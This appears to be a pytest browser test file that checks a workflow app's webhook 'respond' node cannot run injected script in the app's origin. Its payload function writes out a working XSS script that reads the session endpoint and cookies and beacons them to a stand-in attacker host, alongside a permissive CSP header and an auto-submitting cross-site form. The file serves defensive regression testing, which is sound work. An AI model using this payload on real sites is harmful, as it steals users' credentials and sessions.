"""Issue 17, item 1: a `respond` node's answer must never run script in WFAIB's origin.

The attack: a workflow answers `text/html` with a script that reads `/api/auth/me` and the
cookies and sends them to another host; a signed-in superuser opens it (a cross-site form POST
from the attacker's page, or any navigation to the webhook). A real Chromium, a real server and
a loopback "collector" standing for the attacker's host: with the fix the script never runs, so
the page's title is untouched and the collector receives nothing.

The page's `load` event waits for images started while the document is parsed, so once it has
fired, a script that ran would already have reached the collector: no waiting for time.
"""

from __future__ import annotations

import pytest

from tests.factories import make_workflow, simple_definition
from tests.servers import LoopbackServer
from workflows.models import Workflow

from .conftest import sign_in


@pytest.fixture
def collector():
    server = LoopbackServer()
    server.route("GET", "/ran", lambda req: (200, {"Content-Type": "image/gif"}, b""))
    server.route("GET", "/steal", lambda req: (200, {"Content-Type": "image/gif"}, b""))
    server.start()
    yield server
    server.stop()


def payload(collector: LoopbackServer) -> str:
    beacon = f"{collector.url}"
    return (
        "<html><head><title>innocent</title></head><body><p id=marker>page</p><script>"
        "document.title = 'XSS';"
        f"new Image().src = '{beacon}/ran';"
        "fetch('/api/auth/me', {credentials: 'include'}).then(r => r.text()).then(t => {"
        f"  new Image().src = '{beacon}/steal?d=' + encodeURIComponent(t + document.cookie);"
        "});"
        "</script></body></html>"
    )


# What the reported attack's node set: HTML, and its own policy replacing the app's (whose
# `script-src 'self'` would otherwise block the inline script).
ATTACK_HEADERS = {"Content-Type": "text/html",
                  "Content-Security-Policy": "script-src 'unsafe-inline' *; img-src *; "
                                             "connect-src *"}


def attack_workflow(owner, collector, headers: dict[str, str]) -> Workflow:
    """A workflow whose respond node answers the attack page with `headers`. Stored directly,
    as today's main accepted it (the save-time check now refuses the CSP header), so the test
    exercises what happens when such a workflow is called."""
    respond = {"id": "answer", "type": "respond",
               "config": {"status": 200, "headers": {}, "body": payload(collector)}}
    workflow = make_workflow(owner=owner, definition=simple_definition(respond))
    definition = workflow.definition
    definition["nodes"][1]["config"]["headers"] = headers
    Workflow.objects.filter(pk=workflow.pk).update(definition=definition)
    workflow.versions.filter(number=workflow.version).update(definition=definition)
    return workflow


def as_json_post(route):
    """Turn the browser's navigation into a JSON POST (no cross-site form can send one): the
    answer is rendered as a page, the most a webhook answer can ever get."""
    route.continue_(method="POST", post_data="{}",
                    headers={**route.request.headers, "content-type": "application/json"})


def stolen(collector: LoopbackServer) -> list[str]:
    return [r.path for r in collector.requests if r.path.startswith(("/ran", "/steal"))]


def test_cross_site_form_post_to_a_respond_webhook_runs_no_script(
        page, live_server, e2e_user, collector):
    """The issue's attack as reported: the attacker's page auto-submits an empty form to the
    webhook in the signed-in superuser's browser."""
    workflow = attack_workflow(e2e_user, collector, ATTACK_HEADERS)
    sign_in(page, live_server.url, e2e_user.email)
    target = f"{live_server.url}/api/webhook/{workflow.pk}"
    collector.route("GET", "/attack", lambda req: (200, {"Content-Type": "text/html"}, (
        f"<form id=f method=post action='{target}' enctype='text/plain'></form>"
        "<script>document.getElementById('f').submit()</script>").encode()))

    page.goto(f"{collector.url}/attack")
    page.wait_for_url(target)
    page.wait_for_load_state("load")
    assert page.title() != "XSS"
    assert stolen(collector) == []
    assert workflow.runs.count() == 0  # a form POST is not JSON: refused before any run


def test_respond_html_opened_by_a_signed_in_superuser_is_sandboxed(
        page, live_server, e2e_user, collector):
    """Defence in depth: HTML a node may answer with reaches the browser as a page. It
    renders, but no script runs in it: the answer's policy is `sandbox`."""
    workflow = attack_workflow(e2e_user, collector, {"Content-Type": "text/html"})
    sign_in(page, live_server.url, e2e_user.email)
    target = f"{live_server.url}/api/webhook/{workflow.pk}"
    page.route(target, as_json_post)
    response = page.goto(target)
    page.wait_for_load_state("load")
    assert response is not None
    assert response.status == 200
    headers = response.headers
    assert headers["content-security-policy"] == "sandbox"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert page.locator("#marker").inner_text() == "page"  # the HTML itself did render
    assert page.title() != "XSS"
    assert stolen(collector) == []
    assert workflow.runs.count() == 1


def test_a_stored_attack_workflow_opened_as_a_page_runs_no_script(
        page, live_server, e2e_user, collector):
    """The attack workflow called with JSON (not a form): its node's own CSP never leaves the
    server (the rendered config is checked again: the node fails), so no script runs."""
    workflow = attack_workflow(e2e_user, collector, ATTACK_HEADERS)
    sign_in(page, live_server.url, e2e_user.email)
    target = f"{live_server.url}/api/webhook/{workflow.pk}"
    page.route(target, as_json_post)
    response = page.goto(target)
    page.wait_for_load_state("load")
    assert response is not None
    assert response.headers["content-security-policy"] == "sandbox"
    assert page.title() != "XSS"
    assert stolen(collector) == []
